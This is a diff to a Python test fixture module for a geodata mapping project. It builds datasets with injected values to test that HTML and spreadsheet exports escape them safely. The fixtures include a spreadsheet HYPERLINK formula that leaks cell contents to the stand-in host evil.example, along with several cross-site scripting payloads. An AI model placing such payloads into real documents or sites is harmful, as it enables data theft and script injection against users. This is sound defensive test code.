@@ -8,17 +8,31 @@ template injection.
   of ``tests/conftest.py``.
 """
 
+import json
+
 import pandas as pd
 
 from geodata import Dataset
+from geodata.events import EVENT_COLUMNS, PLACE_COLUMNS
 from geodata.io import events_frame, places_frame
 
-__all__ = ["BACKTICK", "EVIL", "FORMULA", "SCRIPT", "evil_builtin", "evil_dataset"]
+__all__ = [
+    "BACKTICK",
+    "EVIL",
+    "FORMULA",
+    "SCENE_DATE",
+    "SCRIPT",
+    "bound_strings",
+    "evil_builtin",
+    "evil_dataset",
+]
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 SCRIPT = '</script><script>alert("x")</script> & <b>'
 BACKTICK = "`${alert(1)}`\\"
 EVIL = "<img src=x onerror=alert(1)>"
+#: The date of the scene the export tests write (the user's report's date).
+SCENE_DATE = "2016-03-27"
 
 
 def evil_dataset() -> Dataset:
@@ -30,17 +44,7 @@ def evil_dataset() -> Dataset:
             ["evil-3", BACKTICK, "-2+3", "", "36.34", "43.13", "IQ", "Nineveh", "test"],
             ["plain", "Plain town", "", "", "34.56", "38.28", "SY", "Homs", "test"],
         ],
-        columns=[
-            "id",
-            "name",
-            "name_ar",
-            "aliases",
-            "lat",
-            "lon",
-            "country",
-            "governorate",
-            "coord_source",
-        ],
+        columns=list(PLACE_COLUMNS),
     )
     rows = [
         [
@@ -80,21 +84,7 @@ def evil_dataset() -> Dataset:
     ]
     events = pd.DataFrame(
         rows,
-        columns=[
-            "event_id",
-            "place_id",
-            "kind",
-            "date",
-            "date_precision",
-            "end_date",
-            "end_precision",
-            "from_faction",
-            "to_faction",
-            "certainty",
-            "source_title",
-            "source_url",
-            "note",
-        ],
+        columns=list(EVENT_COLUMNS),
     )
     return Dataset(places_frame(places), events_frame(events), name="evil")
 
@@ -110,3 +100,26 @@ def evil_builtin(builtin: Dataset) -> Dataset:
     events.loc[palmyra, "source_title"] = "<b onmouseover=alert(4)>title</b>"
     events.loc[palmyra, "note"] = "</td><script>alert(5)</script>"
     return Dataset(places=places, events=events, name="evil")
+
+
+def bound_strings(page: str, *, skip_other_calls: bool = False) -> list[str]:
+    """The first argument of every ``bindTooltip``/``bindPopup`` call of an HTML
+    export, decoded as the JSON string it must be (never a template literal).
+
+    A call whose argument is not a string raises, unless ``skip_other_calls``
+    (a page with Leaflet's own code inlined has such calls).
+    """
+    decoder = json.JSONDecoder()
+    found = []
+    for call in ("bindTooltip(", "bindPopup("):
+        start = 0
+        while (i := page.find(call, start)) >= 0:
+            j = i + len(call)
+            while page[j].isspace():
+                j += 1
+            if skip_other_calls and page[j] != '"':
+                start = j
+                continue
+            value, start = decoder.raw_decode(page, j)
+            found.append(value)
+    return found
